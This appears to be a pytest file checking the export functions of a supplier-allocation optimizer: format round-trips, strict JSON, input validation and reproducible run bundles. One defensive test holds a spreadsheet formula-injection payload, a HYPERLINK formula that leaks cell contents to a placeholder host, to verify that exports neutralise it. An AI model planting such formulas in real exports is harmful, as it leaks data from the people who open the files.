"""Exports: allocation files round-trip, workbooks carry every report, JSON is strict."""

from __future__ import annotations

import json
import math

import pandas as pd
import pytest
import yaml
from builders import two_suppliers, write_dataset

from optimizer import export
from optimizer.dataset import load_dataset
from optimizer.errors import InputError
from optimizer.frontier import frontier
from optimizer.policy import Policy, from_dict, load_policy
from optimizer.solution import optimize


@pytest.fixture
def solution(tmp_path):
    ds = load_dataset(two_suppliers(tmp_path / "data"))
    return optimize(ds, Policy(caps={"AAA": 0.7}))


def _strict(text: str):
    """json.loads that refuses NaN and Infinity, as other languages' parsers do."""

    def refuse(name):
        raise ValueError(f"non-standard JSON constant {name}")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize("suffix", [".csv", ".json", ".xlsx"])
def test_flows_round_trip_through_every_format(solution, tmp_path, suffix):
    if suffix == ".csv":
        path = export.write_flows(solution, tmp_path / "flows.csv")
    else:  # the JSON and the workbook carry the flows beside the allocation
        path = export.write_allocation(solution, tmp_path / f"alloc{suffix}")
    back = export.read_flows(path, solution.dataset)
    want = solution.arc_flows
    assert list(back.columns) == ["element", "from", "to", "tonnes"]
    assert list(back["from"]) == list(want["from"]) and set(back["to"]) == {"korea"}
    assert back["tonnes"].to_numpy() == pytest.approx(want["tonnes"].to_numpy(), abs=1e-9)
    assert len(back) == 2  # a real mix: both suppliers are used under the 70% cap


def test_csv_has_exactly_the_allocation_columns(solution, tmp_path):
    path = export.write_allocation(solution, tmp_path / "a.csv")
    frame = pd.read_csv(path)
    assert list(frame.columns) == [
        "element",
        "form",
        "stage",
        "plant",
        "country",
        "tonnes",
        "share",
        "cost_usd_kg",
        "cost_usd",
    ]
    assert frame["cost_usd"].sum() == pytest.approx(solution.total_cost_usd)
    assert frame["share"].sum() == pytest.approx(1.0)


def test_json_allocation_is_the_summary_plus_records(solution, tmp_path):
    data = _strict((export.write_allocation(solution, tmp_path / "a.json")).read_text())
    assert set(solution.summary()) <= set(data)
    assert data["status"] == "optimal"
    assert data["dataset"]["sha256"] == solution.dataset.fingerprint
    assert [r["country"] for r in data["allocation"]] == list(solution.allocation["country"])
    assert [r["to_plant"] for r in data["flows"]] == ["korea", "korea"]
    [stage] = data["stages"]  # one element, one stage in a single-stage dataset
    assert stage["stage"] == "separation" and stage["today"]["china_share"] == 0.0


def test_workbook_has_every_sheet_and_the_provenance(solution, tmp_path):
    path = export.write_allocation(solution, tmp_path / "a.xlsx")
    sheets = pd.read_excel(path, sheet_name=None)
    assert list(sheets) == list(export.ALLOCATION_SHEETS)
    assert len(sheets["flows"]) == 2 and len(sheets["baseline_flows"]) == 1
    assert set(sheets["stages"]["stage"]) == {"separation"}
    summary = sheets["summary"].set_index("field")
    assert summary.at["status", "optimized"] == "optimal"
    assert summary.at["portfolio.hhi", "baseline"] == pytest.approx(1.0)  # today: all from AAA
    assert summary.at["portfolio.hhi", "optimized"] < 0.6
    elements = sheets["elements"].set_index("element")
    assert {"hhi_baseline", "hhi_optimized", "china_share_baseline"} <= set(elements.columns)
    assert list(elements.index) == ["X", "portfolio"]
    assert set(sheets["shadow_prices"]["constraint"]) == {"cap", "budget"}

    policy = sheets["policy"].set_index("setting")["value"]
    assert float(policy["caps.AAA"]) == 0.7
    assert from_dict(yaml.safe_load(policy["policy.yaml"])) == solution.policy

    prov = sheets["provenance"].astype(str)
    cells = set(prov.to_numpy().ravel()) | set(prov.columns)
    assert solution.dataset.fingerprint in cells
    assert "version.pulp" in cells
    # The per-table status block: builders mark every row an estimate from source "test".
    header = prov.index[prov.iloc[:, 0] == "table"][0]
    n = len(export.STATUS_TABLES)
    block = pd.DataFrame(
        prov.iloc[header + 1 : header + 1 + n, :6].to_numpy(), columns=prov.iloc[header, :6]
    )
    capacity = block.set_index("table").loc["capacity"]
    assert (capacity["rows"], capacity["estimate"], capacity["confirmed"]) == ("2", "2", "0")


def test_summary_is_strict_json_with_nan_as_null(solution, tmp_path):
    solution.portfolio["hhi"] = math.nan  # a value no risk measure could take
    solution.portfolio["cost_usd"] = math.inf
    text = export.write_summary(solution, tmp_path / "s.json").read_text()
    data = _strict(text)
    assert data["portfolio"]["hhi"] is None
    assert data["portfolio"]["cost_usd"] is None
    assert list(data)[:3] == ["status", "objective", "objective_value"]  # keys not sorted


@pytest.mark.parametrize("name", ["a.txt", "a", "a.xls"])
def test_unknown_extension_names_the_path_and_the_formats(solution, tmp_path, name):
    path = tmp_path / name
    with pytest.raises(InputError) as err:
        export.write_allocation(solution, path)
    text = str(err.value)
    assert str(path) in text
    assert ".csv" in text and ".json" in text and ".xlsx" in text
    assert not path.exists()
    with pytest.raises(InputError, match=r"\.csv, \.json or \.xlsx"):
        export.read_flows(path, solution.dataset)


def test_read_flows_reports_every_bad_cell(solution, tmp_path):
    path = tmp_path / "mine.csv"
    path.write_text(
        "element,from_plant,to_plant,tonnes,note\nX,AAA,korea,100,ok\nX,BBB,korea,abc,typo\nX,AAA,korea,-5,sign\n,BBB,korea,3,\n"
    )
    with pytest.raises(InputError) as err:
        export.read_flows(path, solution.dataset)
    found = {(p.row, p.column) for p in err.value.problems}
    assert found == {(3, "tonnes"), (4, "tonnes"), (5, "element")}
    assert all(p.where == str(path) for p in err.value.problems)
    assert "not a number" in str(err.value) and "negative" in str(err.value)


def test_read_flows_names_missing_columns(solution, tmp_path):
    path = tmp_path / "mine.csv"
    path.write_text("element,tonnes\nNd,1\n")
    with pytest.raises(InputError) as err:
        export.read_flows(path, solution.dataset)
    assert {(p.row, p.column) for p in err.value.problems} == {(1, "from_plant"), (1, "to_plant")}


def test_read_flows_names_unknown_plants(solution, tmp_path):
    path = tmp_path / "mine.csv"
    path.write_text("element,from_plant,to_plant,tonnes\nX,AAA,korea,1\nX,ZZZ,AAA,2\n")
    with pytest.raises(InputError, match="ZZZ"):
        export.read_flows(path, solution.dataset)


def test_read_flows_accepts_round_one_allocations_for_single_stage_data(solution, tmp_path):
    (tmp_path / "m.json").write_text(
        json.dumps([{"element": "X", "supplier": "BBB", "tonnes": 12.5}])
    )
    assert export.read_flows(tmp_path / "m.json", solution.dataset).to_dict("records") == [
        {"element": "X", "from": "BBB", "to": "korea", "tonnes": 12.5}
    ]
    pd.DataFrame({"supplier": ["AAA"], "element": ["X"], "tonnes": [3], "x": ["y"]}).to_excel(
        tmp_path / "m.xlsx", sheet_name="mine", index=False
    )
    back = export.read_flows(tmp_path / "m.xlsx", solution.dataset)
    assert back.to_dict("records") == [
        {"element": "X", "from": "AAA", "to": "korea", "tonnes": 3.0}
    ]


def test_read_flows_json_problems_name_the_record(solution, tmp_path):
    path = tmp_path / "m.json"
    path.write_text(json.dumps({"allocation": [{"element": "X", "supplier": "AAA", "tonnes": -1}]}))
    with pytest.raises(InputError) as err:
        export.read_flows(path, solution.dataset)
    assert "record 1" in str(err.value) and "negative" in str(err.value)


def test_frontier_exports(tmp_path):
    ds = load_dataset(two_suppliers(tmp_path / "data"))
    front = frontier(ds, Policy(), 3)
    points = pd.read_csv(export.write_frontier(front, tmp_path / "f.csv"))
    assert list(points["point"]) == [0, 1, 2]
    assert points["cost_usd"].is_monotonic_increasing
    data = _strict(export.write_frontier(front, tmp_path / "f.json").read_text())
    assert len(data["points"]) == 3
    assert {r["point"] for r in data["mixes"]} == {0, 1, 2}
    sheets = pd.read_excel(export.write_frontier(front, tmp_path / "f.xlsx"), sheet_name=None)
    assert list(sheets) == ["points", "mixes"]
    assert len(sheets["mixes"]) == len(front.mixes)
    with pytest.raises(InputError, match="f.txt"):
        export.write_frontier(front, tmp_path / "f.txt")


def test_run_bundle_reproduces(solution, tmp_path):
    folder = export.run_bundle(solution, tmp_path / "run")
    assert sorted(p.name for p in folder.iterdir()) == [
        "README.txt",
        "allocation.csv",
        "flows.csv",
        "policy.yaml",
        "summary.json",
    ]
    assert load_policy(folder / "policy.yaml") == solution.policy
    assert export.policy_yaml(solution.policy) == (folder / "policy.yaml").read_text()
    readme = (folder / "README.txt").read_text()
    assert "--policy policy.yaml --out allocation.csv" in readme
    assert str((tmp_path / "data").resolve()) in readme
    assert solution.dataset.fingerprint in readme
    again = optimize(load_dataset(solution.dataset.origin), load_policy(folder / "policy.yaml"))
    pd.testing.assert_frame_equal(again.allocation, solution.allocation)


def test_unwritable_path_is_a_user_error(solution, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(InputError, match="cannot be written"):
        export.write_allocation(solution, blocker / "a.csv")  # a file where a folder should be


def test_data_status_counts_confirmed_and_estimates(tmp_path):
    folder = write_dataset(
        tmp_path / "d",
        elements=[{"element": "X", "demand_t": 10, "status": "confirmed", "source": "USGS"}],
        suppliers=[{"supplier": "AAA"}, {"supplier": "BBB", "status": "confirmed"}],
        offers=[
            {"supplier": "AAA", "element": "X", "capacity_t": 10, "cost_usd_kg": 1},
            {"supplier": "BBB", "element": "X", "capacity_t": 10, "cost_usd_kg": 1},
        ],
    )
    ds = load_dataset(folder)
    status = export.data_status(ds).set_index("table")
    assert status.loc["elements", ["confirmed", "estimate"]].tolist() == [1, 0]
    assert status.loc["suppliers", ["rows", "confirmed", "estimate"]].tolist() == [2, 1, 1]
    assert status.loc["baseline_flows", "no_status"] == 1  # builders' baseline has no status
    sources = export.data_sources(ds)
    assert ("elements", "USGS", "confirmed", 1) in set(map(tuple, sources.to_numpy().tolist()))


def test_formula_like_cells_are_written_as_text(tmp_path):
    """A supplier named like a spreadsheet formula must not run when an analyst opens the
    export: CSV and XLSX text cells get a leading quote; numbers stay numbers."""
    evil = '=HYPERLINK("http://x.invalid/?leak="&A1,"CHN")'
    folder = write_dataset(
        tmp_path / "d",
        elements=[{"element": "X", "demand_t": 100.0}],
        suppliers=[{"supplier": evil}, {"supplier": "@BBB"}],
        offers=[
            {"supplier": evil, "element": "X", "capacity_t": 60, "cost_usd_kg": 10},
            {"supplier": "@BBB", "element": "X", "capacity_t": 60, "cost_usd_kg": 20},
        ],
    )
    sol = optimize(load_dataset(folder), Policy(objective="cost"))
    frame = pd.read_csv(export.write_allocation(sol, tmp_path / "a.csv"))
    assert set(frame["plant"]) == {"'" + evil, "'@BBB"}
    assert frame["tonnes"].dtype.kind == "f"
    from openpyxl import load_workbook

    book = load_workbook(export.write_allocation(sol, tmp_path / "a.xlsx"))
    cells = [c.value for row in book["allocation"].iter_rows() for c in row]
    assert "'" + evil in cells and not any(isinstance(v, str) and v.startswith("=") for v in cells)
    assert any(isinstance(v, float) for v in cells)


def test_control_characters_are_dropped_from_exported_text():
    """Loading refuses control characters; a frame built in Python may still hold one, and
    openpyxl cannot write it (IllegalCharacterError): the writers drop it."""
    frame = pd.DataFrame({"name": ["bell\x07", "-x", "ok"], "t": [1.0, -2.0, 3.0]})
    safe = export.safe_cells(frame)
    assert safe["name"].tolist() == ["bell", "'-x", "ok"]
    assert safe["t"].tolist() == [1.0, -2.0, 3.0]
